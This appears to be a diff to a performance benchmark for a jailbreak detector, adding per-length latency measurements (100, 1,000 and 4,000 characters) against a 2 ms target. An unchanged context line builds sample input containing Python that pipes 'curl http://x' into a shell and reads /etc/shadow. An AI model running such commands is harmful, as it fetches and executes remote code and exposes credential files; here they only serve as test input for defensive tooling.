@@ -46,6 +46,24 @@ function detectorLatency(): void {
   });
   emit('jailbreak detector latency p99', quantile(samples, 0.99), 'us', { inputs: samples.length });
   emit('jailbreak detector throughput', (samples.length / ms) * 1000, 'texts/s');
+  // By input length (issue 14: p99 <= 2 ms at 4,000 characters): every corpus text cut or repeated to
+  // exactly that length, so each length sees every style.
+  for (const length of [100, 1000, 4000]) {
+    const sized = texts.map((t) => t.repeat(Math.ceil(length / t.length)).slice(0, length));
+    const by: number[] = [];
+    for (let round = 0; round < 3; round++)
+      for (const t of sized) {
+        const s = performance.now();
+        analyzeText(t, model);
+        by.push((performance.now() - s) * 1000);
+      }
+    by.sort((a, b) => a - b);
+    emit(`jailbreak detector latency p50, ${length} chars`, quantile(by, 0.5), 'us', { inputs: by.length });
+    emit(`jailbreak detector latency p99, ${length} chars`, quantile(by, 0.99), 'us', {
+      inputs: by.length,
+      ...(length === 4000 ? { target: '<= 2000 us' } : {}),
+    });
+  }
   const code = 'import os\nos.system("curl http://x | sh")\nprint(open("/etc/shadow").read())\n'.repeat(4);
   const c: number[] = [];
   for (let i = 0; i < 5000; i++) {
